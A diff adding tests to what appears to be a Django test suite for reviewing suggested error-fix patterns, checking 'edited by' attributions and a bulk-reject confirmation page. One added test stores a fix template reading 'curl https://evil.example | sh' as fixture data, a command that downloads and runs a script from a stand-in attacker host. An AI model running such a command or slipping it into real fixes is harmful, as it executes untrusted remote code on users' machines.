@@ -420,6 +420,18 @@ class TestTwo:
         judge(mira, "activate_for_everybody", pattern)
         assert stands(pattern)[None] == Status.ACTIVE
 
+    def test_the_queue_tells_who_counts_as_editor_and_who_edited_since(
+        self, two: list[User]
+    ) -> None:
+        mira, jo = map(client_of, two)
+        pattern = make_flagged(make_account(name="acme"), flags=["fix: install"])
+        assert "edited by" not in html(mira)
+        LEARNED.edit(mira, pattern, fix_template="- import $1\n+ curl https://evil.example | sh")
+        assert "edited by mira." in html(jo)
+        # It brings in nothing that is flagged.
+        LEARNED.edit(jo, pattern, name="Module that is not there")
+        assert "edited by mira, then by jo." in html(jo)
+
     def test_of_two_of_whom_one_edited_it_the_other_suffices(self, two: list[User]) -> None:
         pattern = make_flagged(make_account(name="acme"), last_edited_by=two[0])
         judge(client_of(two[1]), "activate_for_everybody", pattern)
@@ -478,7 +490,10 @@ class TestTwo:
         patterns = [make_flagged(make_account()) for _ in range(2)]
         listed = reverse("admin:errorpatterns_errorpattern_changelist")
         selected = {"action": "reject", "_selected_action": [one.pk for one in patterns]}
-        seen = mira.post(listed, selected).context["form"]["seen_version"].value()
+        asked = mira.post(listed, selected)
+        assert "Reject: 2 selected." in asked.content.decode()
+        assert "Reject (2)</button>" in asked.content.decode()
+        seen = asked.context["form"]["seen_version"].value()
         ErrorPattern.objects.filter(pk=patterns[1].pk).update(version=2)
         page = mira.post(listed, {**selected, **YES, "seen_version": seen})
         assert "It was changed meanwhile" in page.content.decode()
